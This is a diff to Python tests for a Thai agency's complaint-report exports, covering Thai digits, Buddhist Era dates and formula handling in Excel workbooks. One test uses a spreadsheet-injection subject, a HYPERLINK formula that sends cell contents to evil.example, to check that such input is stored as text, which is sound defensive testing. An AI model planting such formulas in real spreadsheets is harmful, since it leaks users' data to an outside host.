@@ -75,10 +75,11 @@ def test_quarterly_report_as_pdf_and_excel(month_of_cases, officer):
     workbook = load_workbook(io.BytesIO(xlsx))
     assert workbook.sheetnames[0] == "สรุปผล" and "รายการเรื่อง" in workbook.sheetnames and "รายเดือน" in workbook.sheetnames
     summary = {row[0]: row[1] for row in workbook["สรุปผล"].iter_rows(min_row=5, values_only=True)}
-    assert summary["เรื่องที่รับในช่วงเวลา"] == "3" and summary["แจ้งผลแก่ผู้ร้องแล้ว (ในช่วงเวลา)"] == "2"
+    # Thai digits, the agency's default for its documents.
+    assert summary["เรื่องที่รับในช่วงเวลา"] == "๓" and summary["แจ้งผลแก่ผู้ร้องแล้ว (ในช่วงเวลา)"] == "๒"
     dates = [row[1] for row in workbook["รายการเรื่อง"].iter_rows(min_row=2, values_only=True)]
     assert all(isinstance(d, dt.datetime) for d in dates)
-    assert "[$-107041E]" in workbook["รายการเรื่อง"]["B2"].number_format  # shown in B.E.
+    assert "07041E]" in workbook["รายการเรื่อง"]["B2"].number_format  # shown in B.E.
     memo, _, _ = documents.build(spec, "memo.pdf", agency=answered.agency, user=officer)
     assert "บันทึกข้อความ" in pdf_text(memo)
 
@@ -128,6 +129,7 @@ def test_report_downloads_are_scoped_and_audited(client, month_of_cases, officer
 def test_a_complaint_subject_that_looks_like_a_formula_is_text_in_the_monthly_workbook(submit, officer):
     subject = "=HYPERLINK(\"http://evil.example/?\"&A1,\"ดูเรื่องร้องเรียน\")"
     case = submit(subject=subject).case
+    Unit.objects.filter(pk=case.agency_id).update(thai_digits=False)  # the cell holds the subject as typed
     today = timezone.localdate()
     xlsx, _, _ = documents.build(documents.monthly(today.year + 543, today.month), "xlsx", agency=case.agency,
                                  user=officer)
